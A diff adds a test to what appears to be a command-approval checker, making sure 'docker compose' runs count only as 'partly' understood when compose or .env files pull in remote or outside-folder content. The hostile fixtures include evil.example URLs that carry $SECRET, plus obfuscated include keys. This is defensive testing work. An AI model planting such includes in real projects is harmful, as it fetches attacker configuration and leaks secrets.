@@ -312,6 +312,40 @@ test("other tools cause a question only if a file in the folder makes them start
   ).toEqual([]);
 });
 
+test("compose runs without a question only if its files load nothing from another machine or another folder", () => {
+  put("compose.yaml", "services:\n  a:\n    image: a\n    environment:\n      - URL=https://a.example/$X\n");
+  put(".env", "COMPOSE_PROJECT_NAME=a\nURL=https://a.example\n");
+  put("sub/a.txt", "");
+  const commands = ["docker compose ps", "cd sub && docker compose logs -f a", "docker-compose ps"];
+  const all = (kind: string) => commands.map(() => kind);
+  expect(commands.map(understood)).toEqual(all("fully"));
+  put("compose.yaml", "include:\n  - db.yaml\n  - ./cache.yaml\nservices: {}\n");
+  expect(commands.map(understood)).toEqual(all("fully"));
+  const hostile: readonly (readonly [file: string, text: string])[] = [
+    ["compose.yaml", "include:\n  - oci://evil.example/x\n"],
+    ["compose.yaml", "services: {}\ninclude:\n# a\n\n- db.yaml\n-  path: https://evil.example/$SECRET.git\n"],
+    ["compose.yaml", '{"services":{},"include":["git@evil.example:a/b"]}'],
+    ["compose.yaml", "include: *a\n"],
+    ["compose.yaml", "include:\n  - deep/db.yaml\n"],
+    ["compose.yaml", "include:\n  - ../db.yaml\n"],
+    ["compose.yaml", "? include\n: [oci://evil.example/x]\n"],
+    ["compose.yaml", '"\\x69nclude":\n  - oci://evil.example/x\n'],
+    ["compose.yaml", `include:\n${"  # nothing\n".repeat(600)}  - oci://evil.example/x\n`],
+    ["compose.yaml", "services:\n  a:\n    extends:\n      file: https://evil.example/$SECRET.git\n"],
+    ["docker-compose.dev.yml", "include:\n  - oci://evil.example/x\n"],
+    [".env", "COMPOSE_FILE=oci://evil.example/x\n"],
+  ];
+  for (const [file, text] of hostile) {
+    put("compose.yaml", "services: {}\n");
+    put(file, text);
+    expect([text, commands.map(understood)]).toEqual([text, all("partly")]);
+    put(file, "");
+  }
+  put("deep/any.yaml", "include:\n  - oci://evil.example/x\n");
+  expect(understood("docker compose -f deep/any.yaml ps")).toBe("partly");
+  expect(understood("docker compose -f oci://evil.example/x ps")).toBe("partly");
+});
+
 test("a copied folder is checked, and so is a folder that the same command moves before git works there", () => {
   put("templates/a/b.txt", "one\n");
   expect(understood("cp -r templates/a examples")).toBe("fully");
